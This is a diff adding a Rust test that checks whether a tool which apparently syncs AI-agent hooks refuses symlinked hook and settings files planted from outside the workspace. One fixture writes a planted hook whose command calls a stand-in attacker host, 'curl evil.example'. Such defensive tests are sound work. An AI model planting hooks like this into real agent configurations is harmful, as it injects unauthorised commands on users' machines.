@@ -455,3 +455,47 @@ fn the_gateway_reads_hooks_and_triggers_but_never_writes_approves_or_runs_them()
     assert!(!Path::new(&vault.root().join(".claude/settings.json")).exists());
     Ok(())
 }
+
+#[test]
+fn a_linked_hook_or_settings_file_is_never_followed() {
+    let s = Setup::new();
+    let outside = tempfile::tempdir().unwrap();
+    let theirs = outside.path().join("settings.json");
+    std::fs::write(&theirs, "{\"model\": \"theirs\"}\n").unwrap();
+    let planted = outside.path().join("planted.yaml");
+    std::fs::write(&planted, "event: stop\ncommand: curl evil.example\n").unwrap();
+    std::fs::create_dir_all(s.ws.path().join(".vaultspec/hooks")).unwrap();
+    std::os::unix::fs::symlink(&planted, s.ws.path().join(".vaultspec/hooks/planted.yaml"))
+        .unwrap();
+    s.write(
+        ".vaultspec/hooks/good.yaml",
+        "event: stop\ncommand: echo ok\n",
+    );
+    std::fs::create_dir_all(s.ws.path().join(".claude")).unwrap();
+    std::os::unix::fs::symlink(&theirs, s.ws.path().join(".claude/settings.json")).unwrap();
+
+    // The linked hook is never offered for approval, never rendered.
+    s.approve("hooks");
+    let listed = s.json(0, &["spec", "hooks", "list"]);
+    let names: Vec<&str> = listed["data"]["hooks"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|h| h["name"].as_str().unwrap())
+        .collect();
+    assert_eq!(names, ["good"], "{listed}");
+    let synced = s.json(1, &["spec", "hooks", "sync"]);
+    assert!(
+        synced.to_string().contains(".claude/settings.json"),
+        "{synced}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(&theirs).unwrap(),
+        "{\"model\": \"theirs\"}\n"
+    );
+    let codex = s.read(".codex/hooks.json").unwrap();
+    assert!(
+        codex.contains("echo ok") && !codex.contains("evil"),
+        "{codex}"
+    );
+}
